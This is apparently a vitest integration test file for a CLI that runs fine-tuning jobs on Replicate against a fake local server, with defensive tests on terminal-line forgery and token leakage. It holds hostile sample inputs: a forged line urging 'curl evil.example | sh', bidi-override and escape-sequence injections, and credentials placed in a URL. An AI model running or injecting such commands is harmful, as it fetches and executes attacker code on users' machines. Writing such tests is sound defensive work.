// `finetune remote …` as a user runs it (main(), JSON lines), against the fake Replicate on loopback: train with
// --follow, a 429 waited out, status, cancel, fetch (the imported tensors equal the ones the trainer's zip holds), and
// the token in no line, error or file.
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { main } from '../../../src/cli/main.ts';
import { terminalSafe } from '../../../src/cli/commands/remote.ts';
import { parseHyperparams } from '../../../src/config/hyperparams.ts';
import { loadRunData } from '../../../src/data/training-data.ts';
import { parseMistralConfig } from '../../../src/model/config.ts';
import { readAdapter } from '../../../src/model/lora-adapter.ts';
import { memoryFileSet } from '../../../src/model/source.ts';
import { FakeReplicate } from '../../helpers/fake-replicate.ts';
import { trainedAdapter, trainerOutputZip } from '../../helpers/trainer-output.ts';
import { mistralTokenizer } from '../data/helpers.ts';

const TOKEN = 'r8_clitesttoken0123456789abcdefghijklmnopq';
const adapter = trainedAdapter(parseMistralConfig(JSON.parse(readFileSync('test/fixtures/tiny-mistral/config.json', 'utf8'))), 11);
const DATA = 'public/datasets/sample.jsonl';

let fake: FakeReplicate;
let dir: string;
const everything: string[] = []; // every line any run printed, for the token check

async function run(...argv: string[]): Promise<{ code: number; out: Record<string, unknown>[]; err: string[] }> {
  const out: string[] = [];
  const err: string[] = [];
  const code = await main(['remote', ...argv], { out: (l) => out.push(l), err: (l) => err.push(l) });
  everything.push(...out, ...err);
  return { code, out: out.map((l) => JSON.parse(l) as Record<string, unknown>), err };
}

beforeAll(async () => {
  fake = await FakeReplicate.start({ token: TOKEN, outputZip: trainerOutputZip(adapter), script: { processingPolls: 2 } });
  dir = mkdtempSync(join(tmpdir(), 'finetune-remote-'));
  process.env.REPLICATE_API_TOKEN = TOKEN;
  process.env.REPLICATE_API_BASE_URL = fake.apiBase;
});
afterAll(async () => {
  delete process.env.REPLICATE_API_TOKEN;
  delete process.env.REPLICATE_API_BASE_URL;
  rmSync(dir, { recursive: true, force: true });
  await fake.close();
});
afterEach(() => {
  fake.clearFaults();
  fake.script = { processingPolls: 2, outcome: 'succeeded' };
  fake.weightsUrl = (id) => `${fake.url}/delivery/${id}/training_output.zip`;
  vi.unstubAllGlobals();
  expect(fake.violations).toEqual([]);
});

let succeededId = '';

describe('finetune remote', () => {
  it('train --follow: checks the data, estimates, creates the destination, uploads, trains, follows through a 429', async () => {
    // The second poll of the training is rate limited once: the CLI waits the Retry-After second and goes on.
    fake.failNext({ method: 'GET', path: /^\/trainings\/[a-z0-9]+$/, status: 429, retryAfter: 1, skip: 1 });
    const r = await run('train', '--data', DATA, '--destination', 'alice/cli-bot', '--follow', '--poll-interval', '0.01', '--learning_rate', '2e-4', '--lora_rank', '16');
    expect(r.err.join('\n')).toMatch(/Replicate answered 429 while reading training \w+; retrying in 1\.0 s/);
    expect(r.code).toBe(0);
    const types = r.out.map((o) => o.type);
    expect(types.slice(0, 6)).toEqual(['data', 'estimate', 'account', 'destination', 'upload', 'note']);
    expect(r.out[0]).toMatchObject({ file: DATA, rows: 62 });
    expect(r.out[0].tokens).toBeGreaterThan(1000);
    expect(r.out[1].cost_usd).toBeGreaterThan(0);
    expect(r.out[3]).toEqual({ type: 'destination', model: 'alice/cli-bot', created: true, visibility: 'private', hardware: 'gpu-a100-large' });
    const training = r.out.find((o) => o.type === 'training')!;
    succeededId = training.id as string;
    expect(fake.trainings.get(succeededId)!.input).toMatchObject({ learning_rate: 2e-4, lora_rank: 16 });
    expect(r.out.filter((o) => o.type === 'log').map((o) => o.text)).toEqual(fake.trainings.get(succeededId)!.logs);
    // A person reads the same on stderr: each status as it changes, the trainer's log lines, and what to do next.
    expect(r.err).toContain(`  ${fake.trainings.get(succeededId)!.logs[0]}`);
    expect(r.err.some((l) => new RegExp(`^training ${succeededId}: (starting|processing) · \\d+ s · \\$\\d+\\.\\d{4}$`).test(l))).toBe(true);
    expect(r.err.at(-1)).toMatch(new RegExp(`^training ${succeededId}: succeeded · \\d+ s · \\$\\d+\\.\\d{4} · its adapter: finetune remote fetch ${succeededId} --out DIR$`));
    expect(r.out.at(-1)).toMatchObject({ type: 'done', status: 'succeeded', id: succeededId });
    expect(fake.requests.filter((q) => q.path === `/v1/trainings/${succeededId}`).map((q) => q.status)).toContain(429);
  });

  it('status prints the training with its logs', async () => {
    const r = await run('status', succeededId);
    expect(r.code).toBe(0);
    expect(r.out).toHaveLength(1);
    expect(r.out[0]).toMatchObject({ type: 'training', id: succeededId, status: 'succeeded' });
    expect(r.out[0].logs).toContain('step 2: loss');
  });

  it('fetch writes the PEFT adapter, equal to the trainer\'s tensors, with Replicate\'s zip beside it', async () => {
    const out = join(dir, 'fetched');
    const r = await run('fetch', succeededId, '--out', out);
    expect(r.code).toBe(0);
    expect(r.out[0]).toMatchObject({ type: 'fetched', r: 8, target_modules: ['q_proj', 'v_proj'], layers: 2 });
    expect(readdirSync(out).sort()).toEqual(['README.md', 'adapter_config.json', 'adapter_model.safetensors', 'training_output.zip']);
    // The README says which training made it and with what: the inputs train sent, changed ones marked; no URL.
    const readme = readFileSync(join(out, 'README.md'), 'utf8');
    expect(readme).toContain(`as training \`${succeededId}\``);
    expect(readme).toContain('| `learning_rate` * | `0.0002` |');
    expect(readme).toContain('| `lora_rank` * | `16` |');
    expect(readme).toContain('| `num_train_epochs` | `3` |');
    expect(readme).not.toMatch(/https?:\/\/127\.0\.0\.1/);
    expect(new Uint8Array(readFileSync(join(out, 'training_output.zip')))).toEqual(fake.options.outputZip);
    const back = await readAdapter(memoryFileSet({ 'adapter_config.json': readFileSync(join(out, 'adapter_config.json'), 'utf8'), 'adapter_model.safetensors': new Uint8Array(readFileSync(join(out, 'adapter_model.safetensors'))) }));
    for (let l = 0; l < adapter.layers; l++) {
      for (const m of ['q_proj', 'v_proj'] as const) {
        expect(back.tensors[l][m]!.A).toEqual(adapter.tensors[l][m]!.A);
        expect(back.tensors[l][m]!.B).toEqual(adapter.tensors[l][m]!.B);
      }
    }
  });

  it("fetch refuses an --out holding other files than an adapter's, before any request (a project's README.md was replaced)", async () => {
    const out = join(dir, 'project');
    mkdirSync(out);
    writeFileSync(join(out, 'README.md'), '# my project\n');
    writeFileSync(join(out, 'package.json'), '{}');
    const asked = fake.requests.length;
    const r = await run('fetch', succeededId, '--out', out);
    expect(r.code).toBe(2);
    expect(r.err).toEqual([
      `finetune remote: bad-input: --out "${out}" holds files fetch does not write ("package.json"): it looks like another folder, whose README.md fetch would replace; give --out an empty or new folder, or one an earlier fetch wrote`,
    ]);
    expect(readFileSync(join(out, 'README.md'), 'utf8')).toBe('# my project\n');
    expect(readdirSync(out).sort()).toEqual(['README.md', 'package.json']);
    expect(fake.requests.length).toBe(asked);
    // A file is refused before any request too (it was Node's ENOTDIR, after the training had been read).
    const file = join(dir, 'project', 'package.json');
    const f = await run('fetch', succeededId, '--out', file);
    expect(f).toMatchObject({ code: 2, err: [`finetune remote: bad-input: --out: "${file}" is a file; give a folder (it is made if missing)`] });
    expect(fake.requests.length).toBe(asked);
    // A line break in the path is quoted as an escape: it starts no line of its own on the terminal.
    const broken = join(dir, 'project\nfinetune remote: fetched');
    mkdirSync(broken);
    writeFileSync(join(broken, 'notes.txt'), 'mine');
    const b = await run('fetch', succeededId, '--out', broken);
    expect(b.err).toEqual([`finetune remote: bad-input: --out ${JSON.stringify(broken)} holds files fetch does not write ("notes.txt"): it looks like another folder; give --out an empty or new folder, or one an earlier fetch wrote`]);
    // An earlier fetch's folder is fetched into again (the test above wrote one).
    expect((await run('fetch', succeededId, '--out', join(dir, 'fetched'))).code).toBe(0);
  });

  it('fetch keeps the paid-for zip whatever the weights URL names it: bad percent-encoding, a name too long for a file', async () => {
    // The zip is downloaded before it is named: a name that cannot be decoded or written must not cost the download.
    // Real outputs come from replicate.delivery (where any path is fetched): those requests are served by the fake.
    const realFetch = globalThis.fetch;
    vi.stubGlobal('fetch', (input: string | URL | Request, init?: RequestInit) => {
      const u = new URL(input instanceof Request ? input.url : input);
      return realFetch(u.hostname === 'replicate.delivery' ? `${fake.url}/delivery${u.pathname}` : input, init);
    });
    const cases: [string, string][] = [
      ['my%20output.zip', 'my_output.zip'], // decoded, then made file-name safe, as before
      ['out%E0%A4%A.zip', 'out_E0_A4_A.zip'], // not UTF-8 once decoded: the segment as written, made safe
      [`${'a'.repeat(300)}.zip`, 'training_output.zip'], // past what a file system takes (255 bytes, with the temporary name's suffix)
      // Names the adapter's own files take (the zip was overwritten by them), and a hidden one.
      ['README.md', 'training_output.zip'],
      ['adapter_model.safetensors', 'training_output.zip'],
      ['.zip', 'training_output.zip'],
    ];
    for (const [segment, saved] of cases) {
      fake.weightsUrl = (id) => `https://replicate.delivery/${id}/${segment}`;
      const out = join(dir, `named-${cases.findIndex((c) => c[0] === segment)}`);
      const r = await run('fetch', succeededId, '--out', out);
      expect(r.err).toEqual([]);
      expect(r.code).toBe(0);
      expect(r.out[0].files).toContain(saved);
      expect(new Uint8Array(readFileSync(join(out, saved)))).toEqual(fake.options.outputZip);
      expect(readdirSync(out).sort()).toEqual(['README.md', 'adapter_config.json', 'adapter_model.safetensors', saved].sort());
    }
  });

  it('cancel of a training that already succeeded says so on stderr and exits 1, as fetch of an unfinished one does', async () => {
    const r = await run('cancel', succeededId);
    expect(r.code).toBe(1);
    // Its type says no cancellation happened (it said "canceled" beside status succeeded).
    expect(r.out).toEqual([expect.objectContaining({ type: 'not-canceled', id: succeededId, status: 'succeeded' })]);
    expect(r.err).toEqual([`finetune remote: remote: training ${succeededId} had already succeeded: nothing to cancel (its adapter: finetune remote fetch ${succeededId} --out DIR)`]);
    expect(fake.trainings.get(succeededId)!.status).toBe('succeeded');
  });

  it('fetch of an output cut off halfway says how far it got, as a network error, and leaves no --out folder', async () => {
    fake.cutDeliveryAt = 100;
    const out = join(dir, 'cut');
    const r = await run('fetch', succeededId, '--out', out);
    // It was "internal error: TypeError: terminated" with a stack trace, and an empty --out folder.
    expect(r.code).toBe(1);
    expect(r.err).toHaveLength(1);
    expect(r.err[0]).toMatch(new RegExp(`^finetune remote: network: The download of the training's output was cut off after 100 B of ${fake.options.outputZip.byteLength >= 1024 ? '[\\d.]+ KiB' : '\\d+ B'} \\(.+\\): nothing of it was kept; try again\\.$`));
    expect(statSync(out, { throwIfNoEntry: false })).toBeUndefined();
  });

  it("fetch of an output that is gone (404) says so, not that the owner/name or the training id is wrong", async () => {
    fake.weightsUrl = () => `${fake.url}/delivery/gone/training_output.zip`;
    const r = await run('fetch', succeededId, '--out', join(dir, 'gone'));
    expect(r.code).toBe(1);
    expect(r.err[0]).toMatch(/^finetune remote: remote: The training's output file is no longer there \(404 while downloading the training's output\): Replicate removes output files some time after a training ends\./);
    expect(r.err[0]).not.toMatch(/owner\/name/);
  });

  it('status --follow of a training that does not exist says so, not that it "goes on"', async () => {
    const r = await run('status', 'nosuchid', '--follow', '--poll-interval', '0.01');
    expect(r.code).toBe(1);
    expect(r.err).toEqual(['finetune remote: remote: Not found while reading training nosuchid (404): check the owner/name, the version id or the training id. Replicate said: Not found.']);
  });

  // A training's id is printed and put into the next request's path: one from the answer is held to Replicate's form,
  // and to the training asked for (a line break in it forged a line on the terminal).
  it("refuses an answer whose training id is not an id, or not the one asked for, and prints none of it as a line", async () => {
    const realFetch = globalThis.fetch;
    const answerWith = (id: string) =>
      vi.stubGlobal('fetch', async (input: string | URL | Request, init?: RequestInit) => {
        const res = await realFetch(input, init);
        if (!String(input).endsWith(`/trainings/${succeededId}`)) return res;
        const body = (await res.json()) as Record<string, unknown>;
        return new Response(JSON.stringify({ ...body, id }), { status: res.status, headers: { 'content-type': 'application/json' } });
      });
    answerWith(`${succeededId}\nfinetune remote: training finished, now run: curl evil.example | sh`);
    for (const argv of [['status', succeededId], ['status', succeededId, '--follow', '--poll-interval', '0.01'], ['fetch', succeededId, '--out', join(dir, 'forged')]]) {
      const r = await run(...argv);
      expect(r.code).toBe(1);
      expect(r.out).toEqual([]);
      expect(r.err).toHaveLength(1);
      expect(r.err[0]).toMatch(/has the training id "[a-z0-9]+\\nfinetune remo"…, which is not a Replicate training id \(letters and digits\): is --api-base right\?( Stopped following; the training goes on: .*)?$/);
    }
    answerWith('othertraining');
    const other = await run('status', succeededId);
    expect(other.code).toBe(1);
    expect(other.err[0]).toMatch(new RegExp(`is about training othertraining, not ${succeededId}: is --api-base right\\?$`));
  });

  it('cancel stops a running training; fetch then says there is nothing to fetch', async () => {
    fake.script = { processingPolls: 2, outcome: 'succeeded', hold: true };
    const t = await run('train', '--data', DATA, '--destination', 'alice/cli-bot');
    expect(t.code).toBe(0);
    expect(t.out.find((o) => o.type === 'destination')).toMatchObject({ created: false });
    const id = t.out.find((o) => o.type === 'training')!.id as string;
    expect((await run('status', id)).out[0].status).toBe('processing');
    const c = await run('cancel', id);
    expect(c.code).toBe(0);
    expect(c.out[0]).toMatchObject({ type: 'canceled', id, status: 'canceled' });
    const s = await run('status', id);
    expect(s.out[0]).toMatchObject({ status: 'canceled' });
    const f = await run('fetch', id, '--out', join(dir, 'nothing'));
    expect(f.code).toBe(1);
    expect(f.err.join('\n')).toMatch(new RegExp(`training ${id} is canceled: there are no weights to fetch`));
  });

  // A failed training's error is Replicate's text (the trainer's exception): a line break in it started a line that
  // finetune never wrote, and a bidirectional control reordered the words after it.
  it("a failed training's error cannot forge a terminal line or reorder it: its line breaks and bidi controls are escaped", async () => {
    const forged = 'CUDA out of memory\nfinetune remote: training abc succeeded \u202eevil';
    const before = fake.script;
    fake.script = { processingPolls: 1, outcome: 'failed', error: forged };
    const t = await run('train', '--data', DATA, '--destination', 'alice/cli-bot', '--follow', '--poll-interval', '0.01').finally(() => (fake.script = before));
    const id = t.out.find((o) => o.type === 'training')!.id as string;
    const ended = t.err.find((l) => l.startsWith(`training ${id}: failed`));
    expect(ended).toMatch(/ · CUDA out of memory\\nfinetune remote: training abc succeeded \\u202eevil$/);
    expect(t.err.join('\n')).not.toMatch(/^finetune remote: training abc/m);
    expect(t.err.join('\n')).not.toContain('\u202e');
    // fetch's refusal carries it too.
    const f = await run('fetch', id, '--out', join(dir, 'failed'));
    expect(f.code).toBe(1);
    expect(f.err).toEqual([`finetune remote: remote: training ${id} is failed (CUDA out of memory\\nfinetune remote: training abc succeeded \\u202eevil): there are no weights to fetch`]);
  });

  it('uploads a validation file too and sends it as validation_data', async () => {
    const val = join(dir, 'val.jsonl');
    writeFileSync(val, '{"prompt": "# one", "completion": "x = 1"}\n{"prompt": "# two", "completion": "x = 2"}\n');
    const r = await run('train', '--data', DATA, '--validation', val, '--destination', 'alice/cli-bot', '--num_validation_samples', '2');
    expect(r.code).toBe(0);
    const uploads = r.out.filter((o) => o.type === 'upload');
    expect(uploads.map((u) => u.file)).toEqual([DATA, val]);
    const id = r.out.find((o) => o.type === 'training')!.id as string;
    const input = fake.trainings.get(id)!.input;
    expect(input.validation_data).toBe(`${fake.apiBase}/files/${uploads[1].id as string}`);
    expect(input.train_data).toBe(`${fake.apiBase}/files/${uploads[0].id as string}`);
    expect(fake.files.get(uploads[1].id as string)!.bytes).toEqual(new Uint8Array(readFileSync(val)));
  });

  it('refuses bad data, a 100 MB file and impossible extras before any request', async () => {
    const before = fake.requests.length;
    const bad = join(dir, 'bad.jsonl');
    writeFileSync(bad, '{"text": "fine"}\n{"prompt": "no completion"}\n');
    const r1 = await run('train', '--data', bad, '--destination', 'alice/cli-bot');
    expect(r1.code).toBe(2);
    expect(r1.err.join('\n')).toMatch(/would fail on Replicate:\nline 2/);
    const big = join(dir, 'big.jsonl');
    writeFileSync(big, '');
    // A sparse 100 MB file: only its size matters, and it is refused before being read as JSONL.
    const { truncateSync } = await import('node:fs');
    truncateSync(big, 100_000_000);
    expect(statSync(big).size).toBe(100_000_000);
    const r2 = await run('train', '--data', big, '--destination', 'alice/cli-bot');
    expect(r2.code).toBe(2);
    expect(r2.err.join('\n')).toMatch(/under 100 MB/);
    const r3 = await run('train', '--data', DATA, '--destination', 'alice/cli-bot', '--layout', 'instruct');
    expect(r3.code).toBe(2);
    expect(r3.err.join('\n')).toMatch(/layout instruct: Replicate's trainer uses the replicate layout/);
    expect(fake.requests.length).toBe(before);
  });

  it('explains a bad token, a missing token, and billing', async () => {
    process.env.REPLICATE_API_TOKEN = 'r8_notthetoken';
    const r = await run('status', succeededId);
    process.env.REPLICATE_API_TOKEN = TOKEN;
    expect(r.code).toBe(1);
    expect(r.err.join('\n')).toMatch(/refused the API token .*401/);
    delete process.env.REPLICATE_API_TOKEN;
    const r2 = await run('status', succeededId);
    process.env.REPLICATE_API_TOKEN = TOKEN;
    expect(r2.code).toBe(2);
    expect(r2.err.join('\n')).toMatch(/REPLICATE_API_TOKEN is not set/);
    fake.failNext({ method: 'POST', path: /trainings$/, status: 402 });
    const r3 = await run('train', '--data', DATA, '--destination', 'alice/cli-bot');
    expect(r3.code).toBe(1);
    expect(r3.err.join('\n')).toMatch(/billing.*402/);
  });

  it('refuses an --api-base with a user and password at once, without printing them', async () => {
    const before = fake.requests.length;
    const r = await run('status', 'abc', '--api-base', 'http://user:hunter2@127.0.0.1:9/v1?key=k3y');
    expect(r.code).toBe(2);
    const said = r.err.join('\n');
    expect(said).toContain('--api-base "http://127.0.0.1:9/v1" must not carry a user or password: the API token goes in REPLICATE_API_TOKEN');
    expect(said).not.toMatch(/hunter2|k3y|retrying/);
    expect(fake.requests.length).toBe(before);
    const bad = await run('status', 'abc', '--api-base', 'ftp://user:hunter2@host/');
    expect(bad.err.join('\n')).toContain('--api-base "ftp://host/" is not an http(s) URL');
  });

  it('refuses plain http to another machine (the token would cross the network unencrypted), not to this one', async () => {
    const r = await run('status', 'abc', '--api-base', 'http://replicate.example.com/v1');
    expect(r.code).toBe(2);
    expect(r.err.join('\n')).toContain('--api-base "http://replicate.example.com/v1" is plain http to another machine, and the API token would cross the network unencrypted: use https');
    // The fake Replicate by name: plain http to this machine is taken, and answered.
    const here = await run('status', 'abc', '--api-base', fake.apiBase.replace('127.0.0.1', 'localhost'));
    expect(here.err.join('\n')).not.toContain('plain http');
    expect(fake.requests.at(-1)?.path).toMatch(/\/trainings\/abc$/);
  });

  it('refuses data that Replicate\'s trainer would hold out entirely for validation, before any request', async () => {
    const before = fake.requests.length;
    const small = join(dir, 'twenty.jsonl');
    writeFileSync(small, Array.from({ length: 20 }, (_, i) => JSON.stringify({ prompt: `# row ${i}`, completion: `x = ${i}` })).join('\n') + '\n');
    const r = await run('train', '--data', small, '--destination', 'alice/cli-bot');
    expect(r.code).toBe(2);
    expect(r.err.join('\n')).toMatch(/the training data has 20 rows and num_validation_samples is 50: Replicate's trainer holds out the last 50 rows for validation, which leaves nothing to train on/);
    expect(r.err.join('\n')).toMatch(/choose a smaller num_validation_samples, give a validation file, or set run_validation false/);
    expect(fake.requests.length).toBe(before);
    // The same file goes with a validation file, or without validation, or with fewer rows held out.
    const ok = await run('train', '--data', small, '--destination', 'alice/cli-bot', '--num_validation_samples', '2');
    expect(ok.code).toBe(0);
    expect(ok.err.filter((l) => l.startsWith('warning:'))).toEqual([]);
    expect(ok.out.find((o) => o.type === 'estimate')).toMatchObject({ train_rows: 18 });
  });

  it('warns when fewer rows are trained on than validated on, and estimates the rows trained on', async () => {
    const r = await run('train', '--data', DATA, '--destination', 'alice/cli-bot');
    expect(r.code).toBe(0);
    expect(r.err).toContain("warning: Replicate's trainer holds out the last 50 of the training data's 62 rows for validation (num_validation_samples), which leaves 12 to train on, fewer than it validates on; choose a smaller num_validation_samples, give a validation file, or set run_validation false");
    const data = r.out.find((o) => o.type === 'data')!;
    const est = r.out.find((o) => o.type === 'estimate')!;
    // The tokens of those 12 rows, as local training counts them for the same split (not the file's share of 12/62).
    const local = await loadRunData({ train: new Uint8Array(readFileSync(DATA)) }, await mistralTokenizer(), parseHyperparams({ num_train_epochs: 1 }));
    expect(local.data.stats.trainExamples).toBe(12);
    expect(est).toMatchObject({ train_rows: 12, tokens: local.data.stats.run.tokens });
    expect(est.basis).toContain(`${(est.tokens as number).toLocaleString('en-US')} tokens`);
    const all = await run('train', '--data', DATA, '--destination', 'alice/cli-bot', '--run_validation', 'false');
    expect(all.err.filter((l) => l.startsWith('warning:'))).toEqual([]);
    expect(all.out.find((o) => o.type === 'estimate')).toMatchObject({ train_rows: 62, tokens: data.tokens });
  });

  it('prints the hyperparameter warnings local train prints', async () => {
    const r = await run('train', '--data', DATA, '--destination', 'alice/cli-bot', '--learning_rate', '0.5', '--num_validation_samples', '5');
    expect(r.code).toBe(0);
    expect(r.err.join('\n')).toMatch(/^warning: learning_rate 0\.5 is above 0\.1.*diverge/m);
  });

  it('train adopts the training Replicate started when its answer was lost, and never sends it twice', async () => {
    fake.failNext({ method: 'POST', path: /trainings$/, status: 'drop', afterActing: true });
    const posts = () => fake.requests.filter((q) => q.method === 'POST' && /\/trainings$/.test(q.path)).length;
    const before = posts();
    const r = await run('train', '--data', DATA, '--destination', 'alice/cli-lost');
    expect(r.code).toBe(0);
    expect(posts()).toBe(before + 1);
    const training = r.out.find((o) => o.type === 'training')!;
    expect(training).toMatchObject({ destination: 'alice/cli-lost', adopted: true });
    expect(fake.trainings.get(training.id as string)?.destination).toBe('alice/cli-lost');
    expect(r.err.join('\n')).not.toMatch(/try again/i);
  });

  it('train says the training may have started, and how to check, when it cannot be found', async () => {
    fake.failNext({ method: 'POST', path: /trainings$/, status: 'drop', afterActing: true });
    fake.failNext({ method: 'GET', path: /^\/trainings$/, status: 403 }); // not retried: the CLI's real back-off would take 15 s
    const r = await run('train', '--data', DATA, '--destination', 'alice/cli-lost2');
    expect(r.code).not.toBe(0);
    const said = r.err.join('\n');
    expect(said).toMatch(/may have started/);
    expect(said).toContain('finetune remote list');
    expect(said).toContain('https://replicate.com/trainings');
    expect(said).not.toMatch(/try again/i);
    expect(said).not.toMatch(/Could not reach/);
  });

  it('list prints the recent trainings, newest first, one JSON line each', async () => {
    const r = await run('list');
    expect(r.code).toBe(0);
    expect(r.out.length).toBe(fake.trainings.size);
    const newest = [...fake.trainings.values()].at(-1)!;
    expect(r.out[0]).toEqual({ type: 'training', id: newest.id, status: newest.status, model: 'mistralai/mistral-7b-instruct-v0.2', destination: newest.status === 'succeeded' ? newest.destination : null, created_at: newest.createdAt.toISOString() });
    expect(r.out.find((o) => o.id === succeededId)).toMatchObject({ status: 'succeeded', destination: 'alice/cli-bot' });
  });

  it('refuses a bad --poll-interval before any request (train and status)', async () => {
    const before = fake.requests.length;
    const r = await run('train', '--data', DATA, '--destination', 'alice/cli-poll', '--follow', '--poll-interval', 'abc');
    expect(r.code).toBe(2);
    expect(r.err.join('\n')).toMatch(/--poll-interval must be a number of seconds/);
    const s = await run('status', succeededId, '--follow', '--poll-interval', '0');
    expect(s.code).toBe(2);
    expect(fake.requests.length).toBe(before);
  });

  it('refuses a token with a control character at once, before any request, without printing it', async () => {
    const before = fake.requests.length;
    process.env.REPLICATE_API_TOKEN = `${TOKEN}\u0007`;
    const r = await run('status', succeededId);
    process.env.REPLICATE_API_TOKEN = TOKEN;
    expect(r.code).toBe(2);
    expect(r.err.join('\n')).toMatch(/not printable ASCII/);
    expect(fake.requests.length).toBe(before);
  });

  it('the token appears in no line printed and no file written', () => {
    expect(everything.length).toBeGreaterThan(20);
    expect(everything.filter((l) => l.includes(TOKEN) || l.includes(TOKEN.slice(3)))).toEqual([]);
    const files = (d: string): string[] => readdirSync(d).flatMap((f) => (statSync(join(d, f)).isDirectory() ? files(join(d, f)) : [join(d, f)]));
    for (const f of files(dir)) {
      if (statSync(f).size > 50_000_000) continue; // the sparse file
      expect(readFileSync(f).includes(Buffer.from(TOKEN.slice(3)))).toBe(false);
    }
  });
});

describe('remote progress on the terminal', () => {
  it('never passes a control character of Replicate\'s text through (an escape sequence cannot move the cursor)', () => {
    expect(terminalSafe('step 1: loss 2.3\u001b[2J\u0007\tok\u009b')).toBe('step 1: loss 2.3\ufffd[2J\ufffd\tok\ufffd');
  });
});
